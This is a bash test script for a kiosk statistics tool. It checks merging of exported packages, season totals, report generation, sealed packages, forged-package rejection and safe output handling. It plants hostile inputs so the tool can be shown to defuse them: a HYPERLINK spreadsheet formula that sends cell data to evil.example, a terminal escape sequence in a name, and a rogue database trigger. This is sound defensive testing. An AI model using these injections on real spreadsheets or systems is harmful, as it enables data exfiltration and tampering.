# A made-up season of a fleet, through the programs: exported, merged shuffled and twice, reported; every total is the season's
# own. A second one with names, partners and fairs that change, and a disk that was copied. Sealed packages; and what bad packages
# get: a line each, and nothing taken.
source "$(dirname "$0")/common.sh"
log=$KIOSK_BIN/kiosk-log
[[ -w /dev/shm ]] && { rm -rf "$work"; work=$(mktemp -d /dev/shm/kiosk-test-XXXXXX); } # thousands of syncs
"$KIOSK_BIN/kiosk-season" --content "$KIOSK_SOURCES/content" --out "$work/season" --kiosks 7 --days 40 --twice
packages=("$work"/season/packages/*)
((${#packages[@]} == 14)) || fail "14 packages"

# merge: shuffled, some of them twice
mapfile -t shuffled < <(printf '%s\n' "${packages[@]}" "${packages[@]:0:5}" | shuf --random-source=<(yes 1))
expect 0 "19 packages taken, 5 of them given twice; 7 kiosks, 28000 visits, 2026-11-01 to 2026-12-10" \
  "$log" merge "${shuffled[@]}" --out "$work/a.fleet"
expect 0 "14 packages taken" "$log" merge "$work/season/packages" --out "$work/b.fleet"
cmp "$work/a.fleet" "$work/b.fleet" || fail "the order of packages shows in the file"
ask() { sqlite3 -csv "$work/a.fleet" "$1"; }
tail -n +2 "$work/season/open.csv" | sort >"$work/books"
ask "SELECT measure, text, sum(n) FROM tally JOIN item ON id = item GROUP BY id" | sort | diff - "$work/books" >&2 || fail "open totals"
tail -n +2 "$work/season/visits.csv" | sort >"$work/books"
ask "SELECT kiosk, sum(n) FROM tally JOIN label ON label.id = label JOIN item ON item.id = item WHERE measure = 'visits' GROUP BY kiosk" |
  sort | diff - "$work/books" >&2 || fail "visits of each kiosk"
# reporting: ten and more as they are, the others not at all; a channel's code may be hidden beside places that are
tail -n +2 "$work/season/reporting.csv" | awk -F, '$5 >= 10' | sort >"$work/books"
[[ -s $work/books ]] || fail "the season has no figures of reporting to publish"
ask "SELECT kiosk, substr(release.first_day, 1, 7), measure, item, n FROM released JOIN release USING (machine, number, variant)
     JOIN label ON label.id = label WHERE language = '*' AND item <> '*'" | sort >"$work/published"
diff <(grep -v ,code_shown, "$work/books") <(grep -v ,code_shown, "$work/published") >&2 || fail "reporting"
[[ -z $(comm -13 "$work/books" "$work/published") ]] || fail "reporting that nobody has counted"
[[ $(ask "SELECT count(*) FROM released WHERE n < 10") == 0 ]] || fail "a count below ten left its kiosk"

# what a kiosk exports is a package as the specifications have it
python3 "$KIOSK_SOURCES/tests/real/table_schema.py" "${packages[@]}" || fail "packages are not as their descriptions say"

# A season of changes: three names, another partner, two fairs, a copied disk, by the hour, exported on each evening. Nothing moves,
# nothing counts twice, each is said.
"$KIOSK_BIN/kiosk-season" --content "$KIOSK_SOURCES/content" --out "$work/changes" --kiosks 4 --days 20 --visits 40 \
  --each-evening --by-hour --events --changes --clone
mapfile -t shuffled < <(printf '%s\n' "$work"/changes/packages/kiosk* "$work"/changes/packages/copies/* | shuf --random-source=<(yes 2))
expect 0 "95 packages taken, 0 of them given twice; 4 kiosks, 3600 visits, 2026-11-01 to 2026-11-20" \
  "$log" merge "${shuffled[@]}" --out "$work/d.fleet"
for words in "kiosk-003: its database runs in 2 machines since 2026-11-11" "give one of them a new data folder" \
  "kiosk-001-name-2: was called kiosk-001 until 2026-11-05" "kiosk-001-name-3: was called kiosk-001-name-2 until 2026-11-10" \
  "kiosk-001-name-4: was called kiosk-001-name-3 until 2026-11-15" "kiosk-002: was with Noordzee Reizen (LU) until 2026-11-10" \
  "kiosk-003: 2 periods of reporting were released by copies" "Salon: 320 visits, 2026-11-05" "Beurs: 320 visits, 2026-11-13"; do
  grep -qF "$words" "$work/said" || { cat "$work/said"; fail "not said: $words"; }
done
books_agree() { # books_agree FLEET SEASON
  tail -n +2 "$2/open.csv" | sort >"$work/books"
  sqlite3 -csv "$1" "SELECT measure, text, sum(n) FROM tally JOIN item ON id = item GROUP BY id" | sort | diff - "$work/books" >&2 || fail "open totals of $2"
  tail -n +2 "$2/labels.csv" | sort >"$work/books"
  sqlite3 -separator , "$1" "SELECT kiosk, partner, country, event, sum(n) FROM tally JOIN label ON label.id = label JOIN item ON item.id = item
    WHERE measure = 'visits' GROUP BY 1, 2, 3, 4" | sort | diff - "$work/books" >&2 || fail "visits by label of $2"
  tail -n +2 "$2/hours.csv" | sort >"$work/books"
  sqlite3 -separator , "$1" "SELECT day.day, hour, sum(n) FROM tally JOIN day ON day.id = tally.day JOIN item ON item.id = item
    WHERE measure = 'visits' GROUP BY 1, 2" | sort | diff - "$work/books" >&2 || fail "visits by hour of $2"
}
books_agree "$work/a.fleet" "$work/season"
books_agree "$work/d.fleet" "$work/changes"
for package in "$work"/changes/packages; do
  expect 0 "95 packages taken" "$log" merge "$package" --out "$work/d2.fleet"
  expect 0 "95 packages taken" "$log" merge "$package" --out "$work/d2.fleet"
done
books_agree "$work/d2.fleet" "$work/changes"

# report
expect 0 "fleet.xlsx" "$log" report "$work/a.fleet" --out "$work/fleet.xlsx" --language nl --title "Seizoen"
python3 - "$work/fleet.xlsx" <<'PYTHON' || fail "the fleet's workbook"
import sys, zipfile
book = zipfile.ZipFile(sys.argv[1])
assert book.testzip() is None
text = book.read('xl/sharedStrings.xml').decode()
for name in ('Seizoen', 'kiosk-007', 'Noordzee Reizen'): assert name in text, name
PYTHON
expect 1 "is no fleet file" "$log" report "$work/season/data/kiosk-001/engagement.sqlite" --out "$work/x.xlsx"
sqlite3 "$work/old.fleet" "CREATE TABLE source (id); PRAGMA application_id = $((0x4B494F46)); PRAGMA user_version = 1"
expect 1 "merge the packages again" "$log" report "$work/old.fleet" --out "$work/x.xlsx"
expect 1 "merge the packages again" "$log" merge "${packages[0]}" --out "$work/old.fleet"
expect 1 "is not there" "$log" report "$work/none" --out "$work/x.xlsx"

# --table: what a spreadsheet would run is text there, and numbers are numbers; LibreOffice is asked
cp "$work/a.fleet" "$work/evil.fleet"
sqlite3 "$work/evil.fleet" "UPDATE label SET partner = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Total\")', event = 'x;=1+1;y'"
expect 0 "evil.xlsx" "$log" report "$work/evil.fleet" --out "$work/evil.xlsx" --table "$work/evil.csv"
grep -q ",\"'=HYPERLINK(" "$work/evil.csv" || fail "a formula stands in the table"
! grep -qE '(^|[,;"])[[:blank:]]*[=+@]' "$work/evil.csv" || fail "a formula begins in the table"
if command -v soffice >/dev/null; then
  (head -n 50 "$work/evil.csv") >"$work/some.csv"
  for separators in 44 59 44/59; do # as in Brussels, as in Paris, and both
    timeout 120 soffice "-env:UserInstallation=file://$work/profile" --headless --infilter="CSV:$separators,34,76,1" \
      --convert-to fods --outdir "$work" "$work/some.csv" >"$work/said" 2>&1 || { cat "$work/said"; fail "LibreOffice does not open the table"; }
    ! grep -q 'table:formula' "$work/some.fods" || fail "LibreOffice calculates a cell of the table (separators $separators)"
    grep -q HYPERLINK "$work/some.fods" || fail "LibreOffice does not show the partner"
  done
fi

# outputs: nothing is written over a device, a pipe, a link, what is read, or twice
cp "$work/a.fleet" "$work/fl" && cp "$work/fl" "$work/kept"
ln "$work/fl" "$work/fl.xlsx" && mkfifo "$work/pipe.xlsx" && ln -s "$work/kept" "$work/link.xlsx" && mkdir "$work/folder.xlsx"
report_to() { "$log" report "$work/fl" "$@"; }
expect 1 "fl: is what is read, and nothing is written over it" report_to --out "$work/fl"
expect 1 "fl.xlsx: is what is read, and nothing is written over it" report_to --out "$work/fl.xlsx"
expect 1 "is what is read, and nothing is written over it" report_to --out "$work/y.xlsx" --table "$work/../$(basename "$work")/fl"
expect 1 "is a device already" report_to --out /dev/null
expect 1 "is a device already" report_to --out "$work/y.xlsx" --table /dev/null
expect 1 "is a pipe already" report_to --out "$work/pipe.xlsx"
expect 1 "is a link already" report_to --out "$work/link.xlsx"
expect 1 "is a folder already" report_to --out "$work/folder.xlsx"
expect 1 "y.xlsx: is to be written twice" report_to --out "$work/y.xlsx" --table "$work/./y.xlsx"
expect 1 "let it end with .xlsx" report_to --out "$work/y.docx"
ln -s "$work/kept" "$work/z.xlsx.part"
expect 1 "z.xlsx.part: is a link already" report_to --out "$work/z.xlsx"
cmp "$work/fl" "$work/kept" && [[ -p $work/pipe.xlsx && -L $work/link.xlsx && -c /dev/null && ! -e $work/y.xlsx ]] || fail "an output replaced something"
ln -s "$work/kept" "$work/linked.public"
expect 1 "linked.public: is a link already" "$log" make-key --out "$work/linked"
[[ ! -e $work/linked ]] || fail "half a pair of keys is left"

merging() { "$log" merge "${packages[0]}" --out "$@"; }
expect 1 "pipe.xlsx: is a pipe already" merging "$work/pipe.xlsx"
expect 1 "folder.xlsx: is a folder already" merging "$work/folder.xlsx"
"$log" kiosk --data "$work/season/data/kiosk-001" >"$work/list.toml" && ln -s "$work/nowhere" "$work/dangling"
expect 1 "list.toml: is what is read" merging "$work/list.toml" --keys "$work/list.toml"
expect 1 "dangling: is a link already" merging "$work/dangling"
expect 1 "is a file of ${packages[0]}, which is read" merging "${packages[0]}/tallies.csv"
ln -s "$work/kept" "$work/z.fleet.part"
expect 1 "z.fleet.part: is a link already" merging "$work/z.fleet"
[[ ! -e $work/nowhere && -L $work/z.fleet.part ]] || fail "merge replaced something"
expect 0 "1 packages taken" merging "$work/way.fleet"
ln -s way.fleet "$work/way" && expect 0 "1 packages taken" merging "$work/way"
[[ -L $work/way ]] || fail "merge replaced a link to its fleet"
for command in export look; do
  expect 1 "pipe.xlsx: is a pipe, not a folder" "$log" "$command" --data "$work/season/data/kiosk-001" --out "$work/pipe.xlsx"
  expect 1 "lies in $work/season/data/kiosk-001, which is read" "$log" "$command" --data "$work/season/data/kiosk-001" --out "$work/season/data/kiosk-001/out"
done
expect 1 "dangling: is a link, not a folder" "$log" open "$work/none" --key "$work/none" --out "$work/dangling"

# arguments that say nothing, days that lie backwards, files that are empty, links to folders
expect 1 "--out: is empty" report_to --out ""
expect 1 "PACKAGES: is empty" "$log" merge "" --out "$work/x.fleet"
expect 1 "is before --from" report_to --out "$work/y.xlsx" --from 9999-12-31 --to 0001-01-01
: >"$work/empty.fleet"
expect 1 "is no fleet file" "$log" forget 0123456789abcdef --fleet "$work/empty.fleet"
[[ ! -s $work/empty.fleet ]] || fail "an empty file became a fleet"
mkdir "$work/links" && ln -s "$work/season/packages" "$work/links/packages"
expect 1 "holds no package" "$log" merge "$work/links" --out "$work/x.fleet"
expect 0 "14 packages taken" "$log" merge "$work/links/packages" --out "$work/x.fleet"
rm "$work/x.fleet"

# sealed
expect 0 "the secret key" "$log" make-key --out "$work/ngo"
[[ $(stat -c %a "$work/ngo") == 600 ]] || fail "others may read the secret key"
expect 1 "is there already" "$log" make-key --out "$work/ngo"
sealed=$("$log" export --data "$work/season/data/kiosk-001" --out "$work/stick" --sealed-for "$work/ngo.public" 2>"$work/said")
[[ $sealed == *.tar.age && $(ls "$work/stick") == "$(basename "$sealed")" ]] || fail "one sealed file: $(ls "$work/stick")"
! grep -qa kiosk-001 "$sealed" || fail "the sealed file names its kiosk"
expect 1 "is sealed (kiosk-log open it first" "$log" merge "$work/stick" --out "$work/c.fleet"
expect 1 "is sealed (kiosk-log open it first" "$log" merge "$sealed" --out "$work/c.fleet"
expect 0 "$work/office/" "$log" open "$sealed" --key "$work/ngo" --out "$work/office"
expect 0 "1 packages taken" "$log" merge "$work/office" --out "$work/c.fleet"
mkdir "$work/by-age" && age -d -i "$work/ngo" "$sealed" | tar x -C "$work/by-age"
diff -r "$work/office" "$work/by-age" || fail "age and tar open it to something else"
"$log" make-key --out "$work/other" >/dev/null
expect 1 "was sealed for another key" "$log" open "$sealed" --key "$work/other" --out "$work/office2"
expect 1 "is no key" "$log" open "$sealed" --key "$work/season/open.csv" --out "$work/office2"
head -c 5000 "$sealed" >"$work/cut.tar.age"
expect 1 "cut.tar.age" "$log" open "$work/cut.tar.age" --key "$work/ngo" --out "$work/office2"
[[ -z $(ls -A "$work/office2") ]] || fail "something of a package that was refused is left"

# what bad packages get; a, the good one, is not taken either, and the fleet stays as it was
cp "$work/a.fleet" "$work/before"
bad() { # bad WORDS COMMAND: of a copy of a package, changed by the command in its folder
  rm -rf "$work/bad" && cp -r "${packages[0]}" "$work/bad" && (cd "$work/bad" && eval "$2")
  expect 1 "$1" "$log" merge "${packages[1]}" "$work/bad" --out "$work/a.fleet"
  grep -q "nothing was taken" "$work/said" || fail "$1"
  cmp "$work/a.fleet" "$work/before" || fail "the fleet was changed by a package that was refused: $1"
}
bad "bad/tallies.csv: is not what was exported: its bytes were changed" "sed -i '2s/1/2/' tallies.csv"
bad "bad/machine.csv: is missing or cannot be read" "rm machine.csv"
bad "was written by a later version (form 9)" "sed -i 's/\"schema_version\": 3/\"schema_version\": 9/' datapackage.json"
bad "is of the first form (1)" "sed -i 's/\"schema_version\": 3/\"schema_version\": 1/' datapackage.json"
bad "is damaged: it is not JSON" "truncate -s 200 datapackage.json"

bad "bad/tallies.csv: is a pipe, not a file" "rm tallies.csv; mkfifo tallies.csv"
bad "bad/datapackage.json: is a pipe, not a file" "rm datapackage.json; mkfifo datapackage.json"
bad "bad/datapackage.json: is 62914560 bytes long" "head -c 60M /dev/zero | tr '\\0' '[' >datapackage.json"
bad "bad/datapackage.json: is no description of a package" "head -c 500K /dev/zero | tr '\\0' '[' >datapackage.json"
source "$KIOSK_SOURCES/tests/real/forging.sh"
own=$work/season/data/kiosk-001/export-key
forged() { # forged WORDS FILE SED: with the hashes made to agree, and signed by the kiosk's own key
  bad "$1" "sed -i '$3' $2; python3 '$work/hashes.py' $2; sign '$own'"
}
forged "tallies.csv:2: 9999-01-01 is no likely day" tallies.csv '2s/2026-11-01/9999-01-01/'
forged "tallies.csv:2: 0001-01-01 is no likely day" tallies.csv '2s/2026-11-01/0001-01-01/'
forged "is no count" tallies.csv '2s/,[0-9]*$/,1000000000001/'
forged "are more than a kiosk can count on one day" tallies.csv '2s/,[0-9]*$/,100001/'
forged 'is no likely name: it holds what no one can see' labels.csv '2s/kiosk-001/\x1b[2Jkiosk/'
! grep -q $'\x1b' "$work/said" || fail "an escape reaches the terminal"
grep -qF '\u{1b}[2Jkiosk' "$work/said" || fail "an escape is not shown"
# Bad ones of every kind are named at once; the others are taken only where somebody says so, and make the file that they alone make.
cp -r "${packages[2]}" "$work/torn" && rm "$work/torn/machine.csv"
cp -r "${packages[3]}" "$work/unlikely" && (cd "$work/unlikely" && sed -i '2s/,[0-9]*$/,100001/' tallies.csv && python3 "$work/hashes.py" tallies.csv && sign "$own")
some=("${packages[0]}" "$work/torn" "${packages[1]}" "$work/unlikely" "$work/nowhere")
cp "$work/a.fleet" "$work/some.fleet"
expect 1 "3 of 5 packages: cannot be used; nothing was taken" "$log" merge "${some[@]}" --out "$work/some.fleet"
named() { for words in "torn/machine.csv: is missing" "unlikely/tallies.csv:2:" "nowhere: is not there"; do grep -qF "$words" "$work/said" || { cat "$work/said"; fail "not named: $words"; }; done; }
named
cmp "$work/some.fleet" "$work/a.fleet" || fail "something was taken"
rm "$work/some.fleet"
expect 2 "3 bad packages were left out" "$log" merge "${some[@]}" --out "$work/some.fleet" --without-bad
named
grep -q "2 packages taken" "$work/said" || fail "the others were not taken"
"$log" merge "${packages[@]:0:2}" --out "$work/alone.fleet" >/dev/null 2>&1 && cmp "$work/some.fleet" "$work/alone.fleet" || fail "with bad ones left out it is another fleet"
expect 0 "2 packages taken" "$log" merge "${packages[@]:0:2}" --out "$work/some.fleet" --without-bad
expect 1 "2 of 2 packages: cannot be used; nothing was taken" "$log" merge "$work/torn" "$work/unlikely" --out "$work/none.fleet" --without-bad
[[ ! -e $work/none.fleet ]] || fail "a fleet of nothing"
expect 1 "is a pipe, not a file" timeout 10 "$log" merge <(true) --out "$work/x.fleet"
expect 1 "is not there" "$log" merge "$work/nowhere" --out "$work/x.fleet"
mkdir -p "$work/empty/a/b"
expect 1 "holds no package of a kiosk" "$log" merge "$work/empty" --out "$work/x.fleet"
cp -r "${packages[0]}" "$work/empty/a/b/"
mkdir -p "$work/empty/.Trash-0/files" && cp -r "${packages[2]}" "$work/empty/.Trash-0/files/"
expect 0 "1 packages taken" "$log" merge "$work/empty" --out "$work/deep.fleet"
(cd "$work" && python3 -m zipfile -c "$work/empty/a/figures.zip" "empty/a/b/$(basename "${packages[0]}")/" && python3 -m zipfile -c "$work/empty/a/photos.zip" said)
expect 1 "figures.zip: is packed as a zip (unpack it first" "$log" merge "$work/empty" --out "$work/x.fleet"
! grep -q photos.zip "$work/said" || fail "a zip of something else is in the way"
"$log" export --preview --data "$work/season/data/kiosk-001" --out "$work/preview" >/dev/null 2>&1
expect 1 "is a preview, not an export" "$log" merge "$work/preview" --out "$work/x.fleet"
# what many visits there are is said, and they are taken
rm -rf "$work/bad" && cp -r "${packages[0]}" "$work/bad"
(cd "$work/bad" && sed -i -E '0,/,visits,all,/s/(,visits,all,)[0-9]+$/\190000/' tallies.csv && python3 "$work/hashes.py" tallies.csv && sign "$own")
expect 0 "more than a kiosk can take: look at it" "$log" merge "$work/bad" --out "$work/many.fleet"

# Who made a package. A forger knows the kiosk's number, and has a key of his own: 90,000 visits, and a snapshot that is never over.
"$log" kiosk --data "$work/season/data/kiosk-002" >"$work/other"
forge "${packages[0]}" "$work/forged"
cp "$work/a.fleet" "$work/before"
expect 2 "is signed by another key than before; left out" "$log" merge "$work/forged" --out "$work/a.fleet"
cmp "$work/a.fleet" "$work/before" || fail "a forged package changed the fleet"
rm -rf "$work/bare" && cp -r "$work/forged" "$work/bare" && rm "$work/bare/datapackage.json.sig"
expect 2 "is not signed, and this kiosk signs what it exports; left out" "$log" merge "$work/bare" --out "$work/a.fleet"
# with the office's list
for number in 1 2 3 4 5 6 7; do "$log" kiosk --data "$work/season/data/kiosk-00$number"; done >"$work/kiosks.toml"
[[ $(grep -c '^key = "[0-9a-f]\{64\}"' "$work/kiosks.toml") == 7 ]] || fail "seven kiosks print their keys"
! grep -qF "$(sed -n 2p "$own")" "$work/kiosks.toml" || fail "a secret key is printed"
[[ $(stat -c %a "$own") == 600 ]] || fail "others may read a kiosk's key"
! grep -rqF "$(sed -n 2p "$own")" "$work/season/packages" || fail "a secret key is in a package"
expect 2 "is signed by a key that the list does not have; left out" \
  "$log" merge "${packages[@]}" "$work/forged" --out "$work/listed.fleet" --keys "$work/kiosks.toml"
cmp "$work/listed.fleet" "$work/before" || fail "with a list, and a forged package besides, it is another fleet"
expect 0 "nobody has checked who made these: 1 new kiosks: kiosk-001 number" "$log" merge "${packages[0]}" --out "$work/new.fleet"
cat "$work/kiosks.toml" "$work/other" >"$work/x.toml"
expect 1 "stands in the list twice" "$log" merge "${packages[0]}" --out "$work/x.fleet" --keys "$work/x.toml"
expect 2 "the list of kiosks does not know it; left out" "$log" merge "${packages[0]}" --out "$work/x.fleet" --keys "$work/other"
printf '[[kiosk]]\nmachine = "12"\nname = "x"\n' >"$work/x.toml"
expect 1 "x.toml:2:" "$log" merge "${packages[0]}" --out "$work/x.fleet" --keys "$work/x.toml"
expect 1 "not a file" "$log" merge "${packages[0]}" --out "$work/x.fleet" --keys /dev/zero
# what was forged before anybody knew the kiosk, put right
expect 0 "" "$log" merge "$work/forged" "${packages[2]}" --out "$work/mended.fleet"
expect 2 "another key than before" "$log" merge "${packages[@]}" --out "$work/mended.fleet"
machine=$(sed -n 's/^machine = "\(.*\)"/\1/p' "$work/kiosks.toml" | head -1)
expect 1 "no kiosk fedcba9876543210 in it; there are" "$log" forget fedcba9876543210 --fleet "$work/mended.fleet"
grep -q "$machine kiosk-001" "$work/said" || fail "it is not said which kiosks there are"
expect 1 "give --fleet FILE or --url URL" "$log" forget "$machine"
expect 0 "$machine is forgotten" "$log" forget "$work/forged" --fleet "$work/mended.fleet"
expect 0 "14 packages taken" "$log" merge "${packages[@]}" --out "$work/mended.fleet"
cmp "$work/mended.fleet" "$work/before" || fail "forgotten and merged again, it is another fleet"
# files that are none
expect 1 "not a file" "$log" merge /dev/zero --out "$work/x.fleet"
expect 1 "is a device already" "$log" merge "${packages[0]}" --out /dev/zero
expect 1 "not a file" "$log" report /dev/zero --out "$work/x.xlsx"
expect 1 "not a file" "$log" open /dev/zero --key "$work/ngo" --out "$work/office3"
expect 1 "not a file" "$log" open "$sealed" --key /dev/zero --out "$work/office3"
expect 1 "not a file" "$log" export --data "$work/season/data/kiosk-001" --out "$work/x" --sealed-for /dev/zero
sqlite3 "$work/mended.fleet" "CREATE TRIGGER grow AFTER INSERT ON tally BEGIN UPDATE tally SET n = 7; END"
expect 1 "holds tables, views or triggers that no kiosk-log has made" "$log" merge "${packages[0]}" --out "$work/mended.fleet"
expect 1 "holds tables, views or triggers that no kiosk-log has made" "$log" report "$work/mended.fleet" --out "$work/x.xlsx"

# sticks: full, read-only, without permissions; where this machine lets us make them
data=$work/season/data/kiosk-002
exporting() { "$log" export --data "$data" --out "$1"; }
if mkdir "$work/full" && mount -t tmpfs -o size=512k tmpfs "$work/full" 2>/dev/null; then
  expect 1 "it is full: free some space, or use another stick" exporting "$work/full"
  [[ -z $(ls -A "$work/full") ]] || fail "a full stick keeps half a package"
  mount -o remount,ro "$work/full"
  expect 1 "read-only" exporting "$work/full"
  umount "$work/full"
else
  echo "no file system can be mounted here: full and read-only sticks were not tried"
fi
expect 0 "$work/again/" exporting "$work/again"
echo "the season's totals, and a line for every fault"
